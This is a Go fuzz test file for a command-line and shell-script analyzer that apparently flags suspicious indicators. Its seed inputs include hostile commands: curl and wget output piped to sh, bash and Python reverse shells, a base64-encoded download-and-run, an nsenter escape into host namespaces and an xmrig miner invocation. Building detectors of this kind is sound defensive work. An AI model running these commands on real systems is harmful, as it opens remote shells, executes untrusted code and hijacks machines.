package cmdline

import (
	"slices"
	"strings"
	"testing"
)

// fuzzCheck holds for any input: no panic (the fuzzer catches those), valid indicators, and the
// same answer twice.
func fuzzCheck(t *testing.T, got, again []Indicator) {
	checkInvariants(t, got)
	if !slices.Equal(got, again) {
		t.Fatalf("nondeterministic result:%s\nvs%s", dump(got), dump(again))
	}
}

// FuzzAnalyze splits the input at NUL bytes into argv (a real argv cannot hold NUL).
func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		"sh\x00-c\x00curl http://x/a | sh",
		"/bin/busybox\x00sh\x00-c\x00wget -qO- http://x|sh",
		"nsenter\x00-t\x001\x00-m\x00--\x00bash",
		"xmrig\x00-o\x00pool.example.com:3333",
		"python3\x00-c\x00import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('sh')",
		"env\x00-S\x00sh -c 'curl x|sh'",
		"sh\x00-c\x00$1|sh\x00x\x00curl http://x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		argv := strings.Split(s, "\x00")
		got := Analyze(argv)
		fuzzCheck(t, got, Analyze(argv))
		ScriptFiles(argv)
	})
}

func FuzzAnalyzeScript(f *testing.F) {
	for _, s := range []string{
		"curl http://x/y.sh | sh",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | sh",
		"sh <<EOF\ncurl x | sh\nEOF\n",
		"f(){ f | sh; }; f",
		"X=$X$X; eval \"$X\"",
		"curl -s http://x/y | tee >(sh) >(tee /dev/fd/63 >(sh))",
		"curl -sL http://x/a.tgz | tar -xzf - -C/opt && /opt/a/run; git clone --depth 1 git@h:o/r && ./r/x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := AnalyzeScript(s)
		fuzzCheck(t, got, AnalyzeScript(s))
		AnalyzeEnv("X", s)
	})
}
